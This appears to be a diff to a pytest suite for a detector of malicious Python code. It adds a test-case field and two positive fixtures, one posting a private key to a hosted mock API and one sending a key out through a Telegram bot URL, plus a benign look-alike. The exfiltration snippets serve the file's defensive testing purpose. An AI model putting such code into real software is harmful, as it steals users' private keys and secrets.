@@ -36,6 +36,7 @@ class Case:
     quiet: Severity | None = None  # nothing reported at or above this
     role: Role = Role.MODULE
     path: str = "pkg/__init__.py"
+    entry: bool = True  # a non-entry module is parsed only when the prefilter says so
     pure: bool = True
     linux: bool = True
 
@@ -339,6 +340,25 @@ POSITIVES += [
         {(DECODE, H)},
     ),
     Case(
+        "private key posted to a hosted mock API from a plain module",
+        "import requests\n"
+        "def perm(private_key):\n"
+        "    url = 'https://67b9f37c51192bd378dee810.mockapi.io/tron/tron'\n"
+        "    requests.post(url, json={'private_key': private_key})\n",
+        {("WC-CODE-SINK", H)},
+        path="pkg/main.py",
+        entry=False,
+    ),
+    Case(
+        "bot token written in a built chat URL",
+        "import requests\n"
+        "def from_key(key):\n"
+        "    requests.get(\n"
+        "        f'https://api.telegram.org/bot1234567890:EXAMPLEexampleEXAMPLEexample0000000'\n"
+        "        f'/sendMessage?chat_id=629029&text={key}', timeout=3)\n",
+        {("WC-CODE-SINK", H)},
+    ),
+    Case(
         "download through a helper, then run",
         "import os, subprocess, urllib.request\n"
         "def fetch(url, path):\n"
@@ -442,6 +462,14 @@ NEGATIVES = [
         quiet=M,
     ),
     Case(
+        "bot API client taking its token from the caller",
+        "import requests\n"
+        "def notify(token, chat, text):\n"
+        "    url = f'https://api.telegram.org/bot{token}/sendMessage'\n"
+        "    return requests.post(url, data={'chat_id': chat, 'text': text})\n",
+        quiet=M,
+    ),
+    Case(
         "build helper fetching a tool for later",
         "import os, urllib.request\n"
         "def fetch_flamegraph(path):\n"
@@ -506,12 +534,26 @@ NEGATIVES = [
 
 @pytest.mark.parametrize("case", POSITIVES, ids=lambda c: c.name)
 def test_behaviour_is_reported_with_its_context_severity(case: Case) -> None:
-    found = judge(case.source, role=case.role, path=case.path, pure=case.pure, linux=case.linux)
+    found = judge(
+        case.source,
+        role=case.role,
+        path=case.path,
+        entry=case.entry,
+        pure=case.pure,
+        linux=case.linux,
+    )
     assert case.expect <= found, found
 
 
 @pytest.mark.parametrize("case", NEGATIVES, ids=lambda c: c.name)
 def test_legitimate_look_alikes_stay_quiet(case: Case) -> None:
     assert case.quiet is not None
-    found = judge(case.source, role=case.role, path=case.path, pure=case.pure, linux=case.linux)
+    found = judge(
+        case.source,
+        role=case.role,
+        path=case.path,
+        entry=case.entry,
+        pure=case.pure,
+        linux=case.linux,
+    )
     assert not rules_at_least(found, case.quiet), found
